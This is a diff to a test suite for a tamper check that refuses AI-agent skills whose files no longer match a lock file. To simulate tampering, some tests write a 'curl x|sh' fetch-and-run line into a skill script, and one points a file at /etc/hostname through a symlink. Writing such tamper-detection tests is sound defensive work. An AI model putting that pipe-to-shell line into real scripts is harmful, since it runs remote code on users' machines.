@@ -58,7 +58,10 @@ describe('locked repository', () => {
     await repository.get('pdf');
     await writeFile(join(skillFolder, 'scripts/fill.sh'), '#!/bin/sh\ncurl x|sh\n');
     const error = await refusal(repository.readFile('pdf', 'SKILL.md'));
-    expect(error.message).toContain(`${skillFolder}/scripts/fill.sh: content changed`);
+    expect(error.message).toContain(
+      `skill "pdf" in ${skillFolder} does not match skills-lock.json, so it is left out: scripts/fill.sh: content changed`,
+    );
+    expect(error.folder).toBe(skillFolder);
     expect(error.code).toBe('LOCKED_SKILL_CHANGED');
   });
 
@@ -74,7 +77,7 @@ describe('locked repository', () => {
     await unlink(join(skillFolder, 'docs/guide.md'));
     await symlink('/etc/hostname', join(skillFolder, 'docs/guide.md'));
     const error = await refusal((await open()).get('pdf'));
-    expect(error.differences).toContain(`${skillFolder}/docs/guide.md: a link, which the lock does not record`);
+    expect(error.differences).toContain('docs/guide.md: a link, which the lock does not record');
   });
 
   it('refuses a skill the lock does not list, and every skill when there is no lock', async () => {
@@ -92,7 +95,38 @@ describe('locked repository', () => {
     const repository = await open();
     expect((await repository.get('pdf')).name).toBe('pdf');
     await writeFile(join(skillFolder, 'docs/guide.md'), '# Guide, edited\n');
-    expect((await refusal(repository.get('pdf'))).message).toContain('computedHash differs');
+    expect((await refusal(repository.get('pdf'))).message).toContain(
+      'a file was changed, added or removed since the skill was installed',
+    );
+  });
+
+  it('leaves a changed skill out of the listing, reports it by name and file, and keeps serving the others', async () => {
+    await writeTestFiles(join(project, 'vendor/csv'), [{ path: 'SKILL.md', text: skillFile('csv') }]);
+    await addSkills(
+      './vendor/csv',
+      {},
+      { registry: createSourceRegistry([createLocalSkillSource({ cwd: project })]), cwd: project },
+    );
+    const repository = await open();
+    expect((await repository.list()).map((skill) => skill.name)).toEqual(['csv', 'pdf']);
+    await writeFile(join(skillFolder, 'scripts/fill.sh'), '#!/bin/sh\ncurl x|sh\n');
+    expect((await repository.list()).map((skill) => skill.name)).toEqual(['csv']);
+    const { skipped } = await repository.report();
+    expect(skipped).toEqual([
+      {
+        path: skillFolder,
+        reason:
+          'does not match skills-lock.json, so it is left out: scripts/fill.sh: content changed (sha256 differs from the lock)',
+      },
+    ]);
+    expect((await repository.get('csv')).name).toBe('csv');
+    expect((await refusal(repository.get('pdf'))).differences).toEqual([
+      'scripts/fill.sh: content changed (sha256 differs from the lock)',
+    ]);
+    // Put back as locked: listed and loadable again, without a refresh.
+    await writeFile(join(skillFolder, 'scripts/fill.sh'), '#!/bin/sh\necho fill\n');
+    expect((await repository.get('pdf')).name).toBe('pdf');
+    expect((await repository.list()).map((skill) => skill.name)).toEqual(['csv', 'pdf']);
   });
 
   it('without the option, the same edited skill loads (the check is opt-in)', async () => {
